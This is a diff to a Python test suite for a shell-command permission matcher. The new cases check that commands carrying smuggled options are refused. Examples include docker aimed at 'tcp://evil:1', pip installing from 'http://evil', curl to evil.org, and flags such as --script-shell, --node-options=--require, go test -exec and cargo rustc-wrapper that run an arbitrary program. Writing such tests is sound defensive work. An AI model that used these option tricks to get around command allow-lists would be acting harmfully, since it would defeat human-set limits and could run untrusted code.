@@ -233,6 +233,31 @@ def test_a_rule_that_can_match_nothing_is_refused_with_the_form_that_would(text,
         ("xargs rm", "xargs wc:*", False),
         ("docker ps -a", "docker ps:*", True),
         ("docker -H x ps", "docker ps:*", False),
+        ("docker ps -H tcp://evil:1", "docker ps:*", False),
+        ("npm run build --script-shell=./x", "npm run build:*", False),
+        ("npm run build --script-sh ./x", "npm run build:*", False),
+        ("npm run build --silent -- --script-shell=./x", "npm run build:*", True),
+        ("npm test --node-options=--require=./x", "npm test:*", False),
+        ("npm test --if-present -w a", "npm test:*", True),
+        ("pnpm test --config.script-shell=./x --dir ../x", "pnpm test:*", False),
+        ("kubectl get pods --kubeconfig=./x", "kubectl get:*", False),
+        ("kubectl get pods -n dev", "kubectl get:*", True),
+        ("kubectl get pods --context dev", "kubectl get pods --context dev:*", True),
+        ("kubectl get pods --context dev --context prod", "kubectl get pods --context dev:*", False),
+        ("cargo test --config=build.rustc-wrapper=./x", "cargo test:*", False),
+        ("cargo test -- --config", "cargo test:*", True),
+        ("go test -exec ./x ./...", "go test:*", False),
+        ("go vet --vettool=./x ./...", "go vet:*", False),
+        ("pip install --index-url http://evil x", "pip install:*", False),
+        ("pip install --index-u http://evil x", "pip install:*", False),
+        ("pip install -r requirements.txt", "pip install:*", True),
+        ("curl -sSL example.com", "curl example.com:*", False),
+        ("curl --loc example.com", "curl example.com:*", False),
+        ("curl -sSL example.com", "curl example.com -L:*", True),
+        ("curl example.com", "curl example.com -L:*", True),
+        ("curl -L evil.org", "curl example.com -L:*", False),
+        ("wget example.com", "wget example.com:*", False),
+        ("wget --max-redirect=0 example.com", "wget example.com:*", True),
         ("git fetch --upload-pack=x", "git fetch:*", False),
         ("rm -r x", "rm:*", False),
         ("sed -n p f", "sed:*", True),
@@ -241,6 +266,18 @@ def test_a_rule_that_can_match_nothing_is_refused_with_the_form_that_would(text,
 )
 def test_a_rule_by_kind_means_its_kind_and_no_other(source, pattern, is_allowed):
     assert allowed(source, pattern) is is_allowed
+
+
+@pytest.mark.parametrize(
+    ("source", "patterns"),
+    [
+        ("curl -sSL example.com/a", ("curl example.com -L:*",)), ("wget example.com", ("wget example.com",)), ("npm run x --shell=./y", ("npm run x --shell=./y",)),
+        ("kubectl get pods --kubeconfig x", ("kubectl get pods --kubeconfig x",)), ("ssh host ls", ("ssh host ls",)),
+        ("docker compose up -d", ("docker compose up -d",)), ("docker compose logs -f", ("docker compose logs:*",)),
+    ],
+)  # fmt: skip
+def test_a_kind_is_offered_only_where_it_says_which_program_settings_and_server_are_used(source, patterns):
+    assert suggested(analyse(source)) == patterns
 
 
 LOSING = [
